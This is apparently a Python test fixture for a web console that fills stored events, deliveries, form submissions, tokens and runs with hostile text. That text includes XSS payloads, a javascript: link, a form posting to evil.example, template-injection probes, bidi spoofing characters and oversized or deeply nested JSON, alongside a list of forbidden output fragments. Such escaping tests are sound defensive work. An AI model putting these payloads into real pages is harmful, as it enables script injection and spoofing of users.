"""A store in which every text that a sender or the file of an operator chooses is hostile."""

from __future__ import annotations

import time
from dataclasses import replace
from typing import Any

import orjson
from console_records import Ids, store_records
from records import make_delivery, make_event, make_local_run
from signed_rejects import make_reject

from bridge.core.model import DeadKind, FormFile, RunState, Status
from bridge.core.units import MIB
from bridge.services.access_tokens import create_token
from bridge.store.db.database import Database
from bridge.store.inbound import events, rejects
from bridge.store.local import runs as local_runs
from bridge.system.ids import reject_id

#: Would set `ran` of the page's window if a part of it were code.
CANARY = "window.ran=1"
MARKUP = (
    f"\"'`></title></textarea></pre></script><script>{CANARY}</script>"
    f"<img src=x onerror={CANARY}><svg onload={CANARY}><script>{CANARY}</script></svg>"
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe><a href='javascript:{CANARY}'>x</a>"
    f"<div hx-get=/console/logout hx-trigger=load style=position:fixed;width:9999px>"
    "<form action=https://evil.example><input name=csrf>{{7*7}}{%raw%}${7*7}<!--"
)
LINK = f"javascript:{CANARY}//"
CONTROLS = (
    "\u202egpj.exe\u2066\x00\x07\x1b[31m\x7f\x85\u2028\u2029\ufeff\u200b\U000e0001\ud7ff\uffff"
)
LONG = "W" * 3000
#: All at once.
HOSTILE = f"{LINK}{CONTROLS}{MARKUP}{LONG}"
#: Parts that no page may have as they are.
FORBIDDEN = (
    "<img src=x",
    "<svg onload",
    f"<script>{CANARY}",
    "<iframe srcdoc",
    "<div hx-get",
    "<form action=https://evil",
    'href="javascript:',
    'src="javascript:',
    "<!--",
)
#: Characters that hide text or turn it around.
HIDDEN_CHARS = "\u202e\u2066\x00\x07\x1b\x7f\x85\u2028\u2029\ufeff"
DEPTH = 900
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CANARY}'><script>{CANARY}</script></svg>"

ROUTES = """\
version: 1
platforms:
  local: {type: local}
  crm: {type: http, url: "https://crm.example/%(url)s"}
sources:
  github: {provider: github, secret: a-long-enough-secret-of-a-test}
  asana: {provider: asana}
  contact:
    provider: form
    schema:
      type: object
      properties: {name: {type: string, title: %(text)s}, %(text)s: {type: string}}
flows: {triage: {platform: local, saved_item_id: %(text)s}}
routes:
  - name: triage
    on: github issues
    match: {body.action: opened, body.note: %(text)s}
    inputs: {title: %(text)s}
    flow: triage
  - {name: other, on: [github, contact], inputs: {x: %(text)s}, flow: crm/x}
"""


def write_routes() -> str:
    """Return a configuration whose titles, values and ids are hostile."""
    text = orjson.dumps(MARKUP.replace("${", "$${")).decode()
    return ROUTES % {"text": text, "url": "%3Cscript%3E"}


def store_hostile_records(database: Database, text: str = HOSTILE) -> list[Ids]:
    """Store the records of each page with hostile texts; return their ids, once for each kind of
    body.
    """
    if database.engine.dialect.name != "sqlite":  # it stores no null character
        text = text.replace("\x00", "")
    now = time.time()
    first = store_records(database, text, **_make_changes(text, b"{" + text.encode(), now))
    made = [first]
    for body in _make_bodies(text):
        event = make_event(now=now, **_make_changes(text, body, now) | {"spam": None})
        events.add(database, event, _make_deliveries(event, text), lambda *_: [])
        made.append({**first, "events": event.id})
    form = make_event(
        now=now,
        source="contact",
        provider="form",
        type="submission",
        spam=text,
        client=text,
        body=orjson.dumps({"name": text, text: text}),
        headers={"content-type": "application/json", "user-agent": text},
        files=(
            FormFile(field=text, name=f"{text}.svg", type="image/svg+xml", size=9, sha256="0" * 64),
        ),
    )
    events.add(database, form, (), lambda *_: [])
    events.add(database, make_event(now=now, **_of_form(text)), (), lambda *_: [])
    cut = make_reject(
        id=reject_id(now), reason="mismatch", body=SVG.encode() * 999, cut=True, size=5 * MIB
    )
    rejects.add(database, replace(cut, headers={text: text, "user-agent": text}, client=text))
    create_token(database, MARKUP[:100], "read", None, now=now)
    run = make_local_run(
        text,
        id="kHostile",
        user_id=text,
        inputs=orjson.dumps({text: text}).decode(),
        created_at=now,
    )
    database.write(lambda connection: local_runs.start(connection, run))
    made.append({**first, "events": form.id, "forms": "contact", "sources": "contact"})
    return made


def _of_form(text: str) -> dict[str, Any]:
    return {
        "source": "contact",
        "provider": "form",
        "type": "submission",
        "body": orjson.dumps({"name": text, "email": f"{LINK}@x", text: text}),
    }


def _make_changes(text: str, body: bytes, now: float) -> dict[str, Any]:
    return {
        "source": "github",
        "type": text[:200],
        "body": body,
        "received_at": now,
        "headers": {"content-type": f"text/html; {text}", text: text, "user-agent": text},
        "query_string": f"{text}&{text}={text}",
        "provider_id": text[:100],
    }


def _make_bodies(text: str) -> list[bytes]:
    deep = b'{"a":' * DEPTH + b"1" + b"}" * DEPTH
    keys = {f"{number}{MARKUP}": LINK for number in range(10_000)}
    return [
        deep,
        orjson.dumps(keys),
        orjson.dumps({text: {text: [text, LINK, {"url": LINK, "$ref": text}]}}),
        orjson.dumps({"large": "<b>" * (5 * MIB // 3)}),
        SVG.encode(),
        b"\xff\xfe\x00<script>\x00\x80",
        b"[" * DEPTH,
        b"",
    ]


def _make_deliveries(event: Any, text: str) -> tuple[Any, ...]:
    """Return a delivery of each outcome, with a hostile text in each place."""
    common: dict[str, Any] = {
        "inputs": {text: [text]},
        "reason": text,
        "outputs": {text: text},
        "log": (text, SVG),
        "run_id": text[:150],
        "run_url": LINK,
        "raw_state": text,
        "saved_item_id": text,
        "flow": f"local/{text[:80]}",
        "run_state": RunState.FAILED,
        "created_at": event.received_at,
    }
    return (
        make_delivery(event, status=Status.DEAD, dead_kind=DeadKind.PLATFORM, **common),
        make_delivery(event, "other", status=Status.DELIVERED, **common),
    )
